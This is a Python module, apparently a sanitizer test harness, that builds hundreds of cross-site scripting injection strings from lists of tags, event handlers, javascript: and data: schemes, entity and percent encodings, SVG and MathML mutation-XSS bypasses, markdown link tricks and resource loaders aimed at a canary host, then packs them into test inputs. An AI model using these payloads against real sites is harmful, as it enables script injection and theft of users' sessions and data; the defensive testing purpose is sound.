"""What would run or load something wherever a person's text got into a page as markup, made by rule."""

QUOTES = ['"', "'", "`", ""]
# Scalars that make one grapheme of themselves and what stands before them, and others that are easily lost.
MARKS = ["", "\u0301", "\u0338", "\u034f", "\u200d", "\u20dd", "\ufe0f", "\u3099"]
SEPARATORS = ["\u2028", "\u2029", "\u0085", "\ufeff", "\u202e", "\u2066", "\u00ad", "\u200b", "\u000c", "\ufffd"]
TAGS = ["a", "body", "details open", "div", "iframe", "img src=x", "input", "marquee", "select", "svg", "textarea", "video"]
HANDLERS = ["onload", "onerror", "onfocus autofocus tabindex=1", "onmouseover", "ontoggle", "onanimationstart"]
SCHEMES = [
    "javascript:{fire}", "JaVaScRiPt:{fire}", "java\tscript:{fire}", "java\nscript:{fire}", " javascript:{fire}",
    "&#106;avascript:{fire}", "javascript&colon;{fire}", "java\u200bscript:{fire}", "javascript:\u0301{fire}",
    "//%0ajavascript:{fire}", "vbscript:{fire}", "data:text/html,<script>{fire}</script>",
    "data:image/svg+xml,<svg onload={fire}>", "feed:javascript:{fire}", "https:javascript:{fire}",
]
LINKS = ['<a href="{link}">x</a>', "[x]({link})", "[x]: {link}\n\n[x]", "<{link}>", '<iframe src="{link}"></iframe>']
CLOSERS = [
    "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "</option></select>", "</template>", "</noscript>",
    "</iframe>", "</xmp>", "*/", "</pre></code>", "</main></body>", "\n---\n", "```\n",
]
ENCODINGS = [
    "&lt;img src=x onerror={fire}&gt;", "&#60;img src=x onerror={fire}&#62;", "&amp;lt;img src=x onerror={fire}&amp;gt;",
    "%3Cimg src=x onerror={fire}%3E", "%253Cimg src=x onerror={fire}%253E", "\\u003cimg src=x onerror={fire}\\u003e",
    "\\x3cimg src=x onerror={fire}\\x3e", "+ADw-img src=x onerror={fire}+AD4-", "\uff1cimg src=x onerror={fire}\uff1e",
    "&quot; onmouseover={fire} x=&quot;", "&#34; onmouseover={fire} x=&#34;", "&NewLine;<img src=x onerror={fire}>",
]
MUTATIONS = [
    "<svg><script>{fire}</script></svg>", "<svg><style><img src=x onerror={fire}></style></svg>",
    "<svg></p><style><a id=\"</style><img src=x onerror={fire}>\">",
    "<svg><a xlink:href=javascript:{fire}><text y=9>x</text></a></svg>",
    "<svg><animate onbegin={fire} attributeName=x dur=1s>", "<svg><set attributeName=onmouseover to={fire}>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={fire}>#x'></use></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{fire}</script>'></foreignObject></svg>",
    "<svg><title><img src=x onerror={fire}></title></svg>", "<svg><image href={canary}></svg>", "<svg><image xlink:href={canary}></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={fire}&gt;\">",
    "<math><a xlink:href=javascript:{fire}>x</a></math>", "<math href=javascript:{fire}>x</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror={fire}></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={fire}>",
    "<noscript><p title=\"</noscript><img src=x onerror={fire}>\">", "<template><img src=x onerror={fire}></template>",
    "<template shadowrootmode=open><img src=x onerror={fire}></template>",
    "<table><tr><td><img src=x onerror={fire}></table>", "<select><template><img src=x onerror={fire}></template></select>",
    "<textarea></textarea><img src=x onerror={fire}>", "<xmp><img src=x onerror={fire}></xmp>", "<plaintext><img src=x onerror={fire}>",
    "<listing>&lt;img src=x onerror={fire}&gt;</listing>", "<p><style><!--</style><img src=x onerror={fire}>--></p>",
    "<!--><img src=x onerror={fire}>-->", "<!-- --!><img src=x onerror={fire}> -->", "<!--[if IE]><script>{fire}</script><![endif]-->",
    "<![CDATA[<img src=x onerror={fire}>]]>", "<?xml-stylesheet href='{canary}'?>", "<scr<script>ipt>{fire}</scr</script>ipt>",
    "<script>{fire}</script>", "<script src={canary}></script>", "<script/x>{fire}</script >", "<<script>{fire}//<</script>",
    "<img src=x onerror={fire}//", "<img/src=x/onerror={fire}>", "<img\nsrc=x\nonerror={fire}>", "<p <img src=x onerror={fire}>",
    "<iframe srcdoc='<script>{fire}</script>'></iframe>", "<object data=javascript:{fire}></object>", "<embed src=javascript:{fire}>",
    "<dialog open onclose={fire}>x</dialog>", "<p popover onbeforetoggle={fire}>x</p>", "<isindex action=javascript:{fire}>",
]
LOADERS = [
    "<img src={canary}>", "<img srcset='{canary} 2x'>", "<picture><source srcset={canary}><img src=x></picture>",
    "<video poster={canary}></video>", "<video src={canary}></video>", "<audio src={canary} autoplay></audio>", "<embed src={canary}>",
    "<object data={canary}></object>", "<iframe src={canary}></iframe>", "<link rel=stylesheet href={canary}>",
    "<link rel=prefetch href={canary}>", "<link rel=dns-prefetch href={canary}>", "<base href={canary}>",
    "<meta http-equiv=refresh content='0;url={canary}'>", "<meta http-equiv=refresh content='0;url=javascript:{fire}'>",
    "<meta http-equiv=Content-Security-Policy content='script-src *'>", "<style>@import '{canary}';p{{background:url({canary})}}</style>",
    "<p style='background:url({canary})'>x</p>", "<p style='background-image:url(&quot;{canary}&quot;)'>x</p>",
    "<p style='width:expression({fire})'>x</p>", "<table background={canary}><tr><td background={canary}>x</table>",
    "<form action={canary}><button autofocus>x</button></form>", "<form action=javascript:{fire}><button>x</button></form>",
    "<button formaction=javascript:{fire}>x</button>", "<input type=image src={canary}>", "<a ping={canary} href=#>x</a>",
    "![x]({canary})", "![x](javascript:{fire})", "![x\" onerror={fire} x=\"](x)", "[x](x \"t\" onmouseover={fire} x=\")",
    "{{{{constructor.constructor('{fire}')()}}}}", "${{{fire}}}", "<form id=main name=content><input name=action></form>",
]


def injections():
    """All of them; each calls `__xss(n)` or asks for an address of its number."""
    made = [f"{quote}{mark} onmouseover={{fire}} x={quote}" for quote in QUOTES[:3] for mark in MARKS]
    made += [f"{quote}{mark}><img src=x onerror={{fire}}>" for quote in QUOTES for mark in MARKS]
    made += [f"<{mark}img src=x onerror={{fire}}>{mark}" for mark in MARKS[1:]]
    made += [f"&{mark}lt;{mark}script>{{fire}}</script>" for mark in MARKS[1:]]
    made += [f"{one}<script>{{fire}}</script>{one}" for one in SEPARATORS]
    made += [f"<img{one}src=x onerror={{fire}}>" for one in SEPARATORS]
    made += [f"<{tag} {handler}={{fire}}>x" for tag in TAGS for handler in HANDLERS]
    made += [link.replace("{link}", scheme) for scheme in SCHEMES for link in LINKS]
    made += [f"{closer}<img src=x onerror={{fire}}>" for closer in CLOSERS]
    made += ENCODINGS + MUTATIONS + LOADERS
    return [
        one.replace("{{", "{").replace("}}", "}").replace("{fire}", f"__xss({number})").replace("{canary}", f"//canary.invalid/{number}")
        for number, one in enumerate(dict.fromkeys(made))
    ]


def packed(texts, limit, most=1000):
    """As few texts of at most so many characters as hold all that fit."""
    packs, now = [], []
    for text in texts:
        if len(text) > limit:
            continue
        if now and (sum(map(len, now)) + len(now) + len(text) > limit or len(now) == most):
            packs.append(" ".join(now))
            now = []
        now.append(text)
    return packs + ([" ".join(now)] if now else [])
